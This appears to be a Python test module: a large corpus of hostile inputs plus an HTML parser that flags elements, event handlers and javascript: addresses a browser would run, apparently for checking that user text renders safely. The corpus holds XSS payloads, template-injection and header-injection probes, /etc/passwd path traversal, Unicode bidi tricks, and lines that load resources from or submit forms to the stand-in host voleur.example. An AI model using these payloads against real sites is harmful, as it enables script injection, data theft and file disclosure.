"""Text that must come out as text, and a reader of HTML that says what a browser would make of it."""

from html.parser import HTMLParser
from typing import Final

HOSTILE: Final = {
    "script": "<script>window.stolen = 1</script>",
    "image": '<img src=x onerror="window.stolen = 1">',
    "svg": "<svg/onload=window.stolen=1>",
    "closes_a_quote": '"><script>window.stolen = 1</script>',
    "closes_an_apostrophe": "' onmouseover='window.stolen = 1",
    "closes_the_mark": "</mark></blockquote></li><iframe src=javascript:window.stolen=1></iframe>",
    "closes_the_page": "</style></title></textarea></main><script>window.stolen = 1</script>",
    "entity": "&lt;script&gt;window.stolen = 1&lt;/script&gt; &amp; &#x3c;b>",
    "comment": "<!--><script>window.stolen = 1</script>-->",
    "template": "${window.stolen = 1} {{constructor.constructor('window.stolen = 1')()}} `${window.stolen = 1}`",
    "line_separator": "\u2028<script>window.stolen = 1</script>\u2029",
    "nul": "\x00<scr\x00ipt>window.stolen = 1</script>",
}

# Beyond what the first corpus says: addresses, style, MathML, broken and turning characters, other languages' templates.
CORPUS: Final = {
    **HOSTILE,
    "script_address": "javascript:window.stolen=1//",
    "script_address_hidden": " \tjava\nscript:window.stolen=1//http://",
    "script_address_encoded": "javascript&colon;window.stolen=1",
    "data_address": "data:text/html,<script>window.stolen=1</script>",
    "other_host": "https://voleur.example/x.js\"><img src=https://voleur.example/pixel.png>",
    "protocol_relative": "//voleur.example/x",
    "style": "</style><style>@import 'https://voleur.example/x.css';body{background:url(https://voleur.example/p)}</style>",
    "style_attribute": "\" style=\"animation:x;background:url(https://voleur.example/p)\" onanimationstart=\"window.stolen=1",
    "svg_animation": "<svg><animate onbegin=window.stolen=1 attributeName=x dur=1s><script href=data:,window.stolen=1 /></svg>",
    "svg_use": "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>window.stolen=1</script></svg>#x'></svg>",
    "mathml": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=window.stolen=1&gt;\">",
    "details": "<details open ontoggle=window.stolen=1><summary>x</summary></details>",
    "focus": "<input autofocus onfocus=window.stolen=1>",
    "frame": "<iframe srcdoc='<script>parent.stolen=1</script>'></iframe>",
    "object": "<object data='data:text/html,<script>parent.stolen=1</script>'></object>",
    "meta": "<meta http-equiv=refresh content='0;url=javascript:window.stolen=1'>",
    "base": "<base href=https://voleur.example/>",
    "form": "</form><form action=https://voleur.example/><button autofocus>Envoyer</button></form>",
    "closes_a_script": "</script><script>window.stolen=1</script>",
    "closes_a_text_area": "</textarea></noscript></template><script>window.stolen=1</script>",
    "cdata": "<![CDATA[<script>window.stolen=1</script>]]>",
    "processing": "<?xml version=\"1.0\"?><?php echo '<script>window.stolen=1</script>' ?>",
    "polyglot": "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=window.stolen=1 )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
    "\\x3csVg/<sVg/oNloAd=window.stolen=1//>\\x3e",
    "markdown_link": "[cliquez](javascript:window.stolen=1) ![x](https://voleur.example/p.png) <javascript:window.stolen=1>",
    "markdown_html": "**<img src=x onerror=window.stolen=1>** [^1]: `</code><script>window.stolen=1</script>`",
    "markdown_reference": "[x]: javascript:window.stolen=1 'x'",
    "latex": "$\\href{javascript:window.stolen=1}{x}$ $$\\unicode{<img src=x onerror=window.stolen=1>}$$ \\input{/etc/passwd}",
    "jinja": "{{ 7 * 7 }} {% import os %} <%= 7 * 7 %> #{7 * 7} ${{7*7}} @(7*7)",
    "python_format": "{0.__class__.__mro__} %(passwd)s %s {question} {date}",
    "header": "x\r\nSet-Cookie: stolen=1\r\n\r\n<script>window.stolen=1</script>",
    "path": "../../../../etc/passwd\\..\\..\\con.html",
    "turned_around": "\u202e>tpircs/<1=nelots.wodniw>tpircs<\u202c \u2066 <b>\u2069 \u200f",
    "never_closed_turn": "\u202efdp.exe \u2067\u2067\u202d",
    "half_a_character": "é\udce9 \ud83d <script>window.stolen=1</script>",
    "full_width": "\uff1cscript\uff1ewindow.stolen=1\uff1c/script\uff1e",
    "many_marks": "Z" + "\u0300\u0489" * 200,
    "overlong_utf8": "\u00c0\u00bcscript\u00c0\u00bewindow.stolen=1",
    "byte_order_marks": "\ufeff+ADw-script+AD4-window.stolen=1+ADw-/script+AD4-\ufeff\ufffe",
    "vertical": "\x0b<svg\x0conload=window.stolen=1>\x85\x1b[31m\x07",
    "long": "<a " * 2_000,
}  # fmt: skip


class Elements(HTMLParser):
    """The elements of some HTML, their attributes and the text between them."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(name, value or "") for name, value in attrs]

    def handle_data(self, data: str) -> None:
        self.text += data

    def values(self, name: str) -> list[str]:
        """The values of every attribute of this name."""
        return [value for key, value in self.attributes if key == name]

    @property
    def dangers(self) -> list[str]:
        """What could run: elements that load or run something, handlers, addresses that are scripts."""
        return [
            *(tag for tag in self.tags if tag in {"script", "img", "svg", "iframe", "object", "embed", "b", "base"}),
            *(name for name, _ in self.attributes if name.startswith("on")),
            *(value for name, value in self.attributes if name in {"href", "src"} and value.strip().lower().startswith("javascript:")),
        ]
